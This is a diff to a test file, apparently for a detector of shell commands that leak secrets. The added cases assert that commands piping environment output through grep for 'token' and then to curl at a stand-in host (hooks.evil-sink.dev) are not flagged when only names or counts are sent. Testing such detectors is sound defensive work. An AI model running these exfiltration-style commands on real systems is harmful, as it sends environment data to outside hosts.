@@ -31,6 +31,10 @@ done < <(compgen -e | grep -iE 'secret|token')`)).toEqual([2, 1, ['c.evil.dev']]
     // Names only.
     expect(sent(`compgen -e | grep -i token | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
     expect(sent(`env | grep -i token | cut -d= -f1 | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
+    // A grep that prints no line: a test, a count.
+    expect(sent(`env | grep -qi token && curl -s -d @payload.json https://hooks.evil-sink.dev/x`)).toBeNull();
+    expect(sent(`N=$(printenv | grep -i token | wc -l)\ncurl -s -d "n=$N" https://hooks.evil-sink.dev/x`)).toBeNull();
+    expect(sent(`N=$(env | grep -ci token)\ncurl -s -d "n=$N" https://hooks.evil-sink.dev/x`)).toBeNull();
     // Values masked.
     expect(sent(`env | grep -iE 'token|key' | sed 's/=.*/=***/' | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
     // No secret's word: debugging output; commands, not variables; a file, not the environment.
